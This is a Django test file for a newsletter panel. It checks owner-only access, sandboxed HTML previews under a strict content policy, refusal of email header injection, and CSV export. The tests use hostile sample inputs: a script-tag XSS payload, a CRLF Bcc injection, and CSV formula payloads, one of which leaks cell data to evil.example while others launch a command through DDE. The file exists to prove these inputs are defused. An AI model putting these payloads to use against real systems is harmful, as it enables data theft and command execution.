"""Members' newsletter pages: alice sees hers, bob gets a 404 on every one of them."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from newsletters import services
from newsletters.models import Campaign, MailingList, SubscriberImport
from panel.models import AuditEntry
from tests.newsletters.fixtures import add_confirmed

pytestmark = pytest.mark.django_db


@pytest.fixture
def alices_things(alice, alice_list, alice_domain, mail_rate):
    readers = add_confirmed(alice_list, 3)
    campaign = services.campaign_create(
        mlist=alice_list,
        actor=alice,
        subject="Seeds",
        text_body="Hi {{ name }}",
        html_body="<p>Hi {{ name }}</p><script>alert(1)</script>",
    )
    job = services.import_start(
        mlist=alice_list,
        member=alice,
        filename="people.csv",
        content=b"email\nx@example.org\n",
        consent_source="paper list",
        mode="confirmed",
    )
    return {
        "domain": alice_domain,
        "list": alice_list,
        "reader": readers[0],
        "campaign": campaign,
        "import": job,
    }


def urls(things):
    lst, c = things["list"].pk, things["campaign"].pk
    return [
        ("get", reverse("newsletters:domain", args=[things["domain"].pk])),
        ("post", reverse("newsletters:domain_check", args=[things["domain"].pk])),
        ("post", reverse("newsletters:domain_remove", args=[things["domain"].pk])),
        ("get", reverse("newsletters:list", args=[lst])),
        ("get", reverse("newsletters:list_edit", args=[lst])),
        ("post", reverse("newsletters:list_import", args=[lst])),
        ("get", reverse("newsletters:list_export", args=[lst])),
        ("get", reverse("newsletters:campaign_new", args=[lst])),
        ("get", reverse("newsletters:subscriber", args=[lst, things["reader"].pk])),
        ("post", reverse("newsletters:subscriber_remove", args=[lst, things["reader"].pk])),
        ("get", reverse("newsletters:import", args=[things["import"].pk])),
        ("get", reverse("newsletters:campaign", args=[c])),
        ("post", reverse("newsletters:campaign", args=[c])),
        ("get", reverse("newsletters:campaign_progress", args=[c])),
        ("get", reverse("newsletters:campaign_preview", args=[c])),
        ("post", reverse("newsletters:campaign_schedule", args=[c])),
        ("post", reverse("newsletters:campaign_test", args=[c])),
        ("post", reverse("newsletters:campaign_action", args=[c, "start"])),
        ("post", reverse("newsletters:campaign_action", args=[c, "cancel"])),
    ]


def test_bob_gets_a_404_on_alices_domains_lists_subscribers_and_campaigns(
    client, bob, alices_things
):
    client.force_login(bob)
    for method, url in urls(alices_things):
        response = getattr(client, method)(url)
        assert response.status_code == 404, (method, url, response.status_code)
    # Nothing of alice's changed.
    campaign = Campaign.objects.get(pk=alices_things["campaign"].pk)
    assert campaign.state == "draft"
    assert MailingList.objects.filter(pk=alices_things["list"].pk).exists()


def test_alice_sees_her_pages(client, alice, alices_things):
    client.force_login(alice)
    for method, url in urls(alices_things):
        if method == "get":
            assert client.get(url).status_code == 200, url
    index = client.get(reverse("newsletters:index")).content.decode()
    assert "Garden notes" in index
    assert "alice-news.example" in index


def test_the_campaign_preview_keeps_the_members_html_in_a_sandbox(client, alice, alices_things):
    client.force_login(alice)
    pk = alices_things["campaign"].pk
    page = client.get(reverse("newsletters:campaign", args=[pk]))
    html = page.content.decode()
    # The member's HTML is not in the panel's page at all: a sandboxed frame loads it from its
    # own URL, under a policy of its own.
    preview_url = reverse("newsletters:campaign_preview", args=[pk])
    assert f'sandbox="" src="{preview_url}"' in html
    assert "<script>alert(1)</script>" not in html  # only escaped, in the edit form's textarea
    preview = client.get(preview_url)
    assert preview.status_code == 200
    assert "<script>alert(1)</script>" in preview.content.decode()
    assert_newsletter_policy(preview)


def assert_newsletter_policy(response) -> None:
    """Styles and images of its own, nothing that runs, submits or loads; framed by the panel
    only; a sandbox even when opened on its own."""
    policy = dict(
        (part.split()[0], part.split()[1:])
        for part in response["Content-Security-Policy"].split(";")
        if part.strip()
    )
    assert policy["default-src"] == ["'none'"]
    assert "script-src" not in policy  # default-src 'none'
    assert policy["style-src"] == ["'unsafe-inline'"]
    assert policy["form-action"] == ["'none'"]
    assert policy["frame-ancestors"] == ["'self'"]
    assert policy["sandbox"] == []
    assert response["X-Frame-Options"] == "SAMEORIGIN"
    assert response["Referrer-Policy"] == "no-referrer"


def test_a_list_is_made_from_the_page_and_audited(client, alice, alice_domain):
    client.force_login(alice)
    response = client.post(
        reverse("newsletters:list_new"),
        {
            "name": "Workshop news",
            "slug": "workshop",
            "domain": alice_domain.pk,
            "from_name": "The workshop",
            "from_local": "workshop",
            "signup_open": "on",
        },
    )
    assert response.status_code == 302
    mlist = MailingList.objects.get(slug="workshop")
    assert mlist.from_address == "workshop@alice-news.example"
    assert AuditEntry.objects.filter(action="newsletters.list_created", owner=alice).exists()


def test_a_from_name_with_a_line_break_is_refused(client, alice, alice_domain):
    client.force_login(alice)
    response = client.post(
        reverse("newsletters:list_new"),
        {
            "name": "Workshop",
            "slug": "workshop",
            "domain": alice_domain.pk,
            "from_name": "Workshop\r\nBcc: everyone@example.org",
            "from_local": "workshop",
        },
    )
    assert response.status_code == 422
    assert "must be one line" in response.content.decode()
    assert not MailingList.objects.filter(slug="workshop").exists()


def test_a_list_needs_a_verified_domain_of_ones_own(client, alice, bob, dns_zone):
    bobs = services.domain_add(member=bob, name="bob.example")
    alices = services.domain_add(member=alice, name="unverified.example")
    for domain in (bobs, alices):
        with pytest.raises(services.NewsletterError):
            services.list_create(
                member=alice,
                name="X",
                slug="x",
                domain=domain,
                from_name="X",
                from_local="x",
            )


def test_the_export_streams_csv_with_consent_times(client, alice, alices_things):
    client.force_login(alice)
    response = client.get(reverse("newsletters:list_export", args=[alices_things["list"].pk]))
    body = b"".join(response.streaming_content).decode()
    lines = body.strip().splitlines()
    assert lines[0].startswith("email,name,status,subscribed_at,subscribed_from")
    assert len(lines) == 4
    assert "reader0@example.net,Reader 0,confirmed," in body
    assert "test fixture" in body


def test_staff_see_the_demo_outbox(client, carol, alice, settings, tmp_path):
    new = tmp_path / "new"
    new.mkdir()
    (new / "1.eml").write_bytes(
        b"From: a@example.org\r\nTo: b@example.net\r\nSubject: Hello\r\n"
        b"Message-ID: <m1@x>\r\nDKIM-Signature: v=1\r\n\r\nBody text\r\n"
    )
    settings.NEWSLETTER_OUTBOX_DIR = str(tmp_path)
    client.force_login(carol)
    page = client.get(reverse("newsletters:staff_outbox")).content.decode()
    assert "Hello" in page
    assert "Body text" in page
    client.force_login(alice)
    assert client.get(reverse("newsletters:staff_outbox")).status_code == 403


def test_imports_show_progress_and_errors(client, alice, alices_things, settings):
    job = SubscriberImport.objects.get(pk=alices_things["import"].pk)
    client.force_login(alice)
    page = client.get(reverse("newsletters:import", args=[job.pk])).content.decode()
    assert "people.csv" in page


def test_archives_are_public_or_only_for_the_owner(client, alice, bob, alice_list):
    campaign = services.campaign_create(
        mlist=alice_list,
        actor=alice,
        subject="Issue one",
        text_body="Hi {{ name }}",
        html_body="<p>Hello {{ name }}</p>",
    )
    Campaign.objects.filter(pk=campaign.pk).update(state="sent", finished_at="2026-11-01T10:00Z")
    archive = reverse("newsletters:archive", args=[alice_list.slug])
    item = reverse("newsletters:archive_item", args=[alice_list.slug, campaign.pk])
    assert "Issue one" in client.get(archive).content.decode()
    item_page = reverse("newsletters:archive_item_page", args=[alice_list.slug, campaign.pk])
    page = client.get(item).content.decode()
    assert "Hello reader" not in page
    assert f'sandbox="" src="{item_page}"' in page  # the HTML comes into a sandboxed frame
    framed = client.get(item_page)
    assert "<p>Hello reader</p>" in framed.content.decode()
    assert_newsletter_policy(framed)
    alice_list.archive_public = False
    alice_list.save()
    assert client.get(archive).status_code == 404
    client.force_login(bob)
    assert client.get(item).status_code == 404
    assert client.get(item_page).status_code == 404
    client.force_login(alice)
    assert client.get(item).status_code == 200
    assert client.get(item_page).status_code == 200


FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A2,"Click for your prize")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def test_the_export_neutralises_formulas_a_stranger_typed_on_the_public_form(
    client, alice, alice_list, mail_rate, settings
):
    """OWASP's CSV-injection rule: a cell that a spreadsheet would read as a formula (it
    begins with =, +, -, @, a tab or a carriage return) is exported with a leading quote."""
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    stranger = client.__class__()
    signups = [(f"{n}-prize@example.net", name) for n, name in enumerate(FORMULAS)]
    # The address itself may begin with a formula character too: "=" and "+" are dot-atom.
    signups.append(("=1+2@example.net", "Plain Name"))
    for email, name in signups:
        response = stranger.post(
            reverse("newsletters:signup", args=[alice_list.slug]),
            {"email": email, "name": name, "website": ""},
            REMOTE_ADDR="192.0.2.77",
        )
        assert response.status_code == 200, response.content.decode()[:500]
    client.force_login(alice)
    response = client.get(reverse("newsletters:list_export", args=[alice_list.pk]))
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    by_email = {row["email"].lstrip("'"): row for row in rows}
    for email, name in signups:
        row = by_email[email]
        assert row["name"] == (f"'{name}" if name[0] in "=+-@" else name)
        assert row["email"] == (f"'{email}" if email[0] in "=+-@" else email)
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
